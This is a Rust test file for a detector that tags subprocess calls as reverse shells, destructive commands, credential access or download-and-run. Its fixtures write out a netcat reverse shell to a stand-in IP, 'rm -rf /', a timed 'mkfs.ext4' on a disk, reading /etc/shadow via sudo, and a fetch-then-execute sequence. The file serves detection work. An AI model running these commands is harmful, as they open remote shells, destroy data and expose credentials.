use super::*;
use crate::facts::testing::{call, name, text};
use davy_artifact::{Uninterpreted, Value};

fn tags(calls: &[&Call]) -> Vec<&'static str> {
    let seen = Behaviour::merged(observe(calls, &Uninterpreted));
    seen.tags.iter().map(|tagged| tagged.tag.as_str()).collect()
}

/// A call with a list of words.
fn runs(words: &[&str]) -> Call {
    let words = words.iter().map(|word| text(word)).collect();
    call(name("subprocess", "run"), vec![Value::List(words)])
}

#[test]
fn lists_of_words_are_commands_without_any_shell() {
    assert_eq!(tags(&[&runs(&["nc", "-e", "/bin/sh", "192.0.2.1", "80"])]), ["reverse-shell"]);
    assert_eq!(tags(&[&runs(&["rm", "-rf", "/"])]), ["destructive"]);
    assert_eq!(tags(&[&runs(&["echo", "rm -rf /"])]), Vec::<&str>::new());
    assert_eq!(
        tags(&[&runs(&["sudo", "-u", "root", "cat", "/etc/shadow"])]),
        ["credential-access", "privilege"]
    );
}

#[test]
fn what_is_handed_over_is_followed() {
    let timer = call(
        name("threading", "Timer"),
        vec![
            Value::Int(5),
            name("subprocess", "run"),
            Value::List(vec![Value::List(vec![text("mkfs.ext4"), text("/dev/sda1")])]),
        ],
    );
    assert_eq!(tags(&[&timer]), ["destructive"]);
}

#[test]
fn steps_are_told_apart_and_seen_together() {
    let fetch = call(
        name("urllib.request", "urlretrieve"),
        vec![text("http://example.com/x"), text("/tmp/x")],
    );
    let run = runs(&["/tmp/x"]);
    let seen = observe(&[&fetch, &run], &Uninterpreted);
    assert!(seen[0].tags.is_empty());
    assert_eq!(seen[1].tags[0].tag, Tag::DownloadAndRun);
    assert_eq!(seen[1].tags[0].text, "/tmp/x");
    assert_eq!(seen[0].indicators[0].value, "http://example.com/x");
}

#[test]
fn tags_are_sorted_by_their_names() {
    assert!(Tag::ALL.is_sorted_by(|a, b| a < b && a.as_str() < b.as_str()));
}
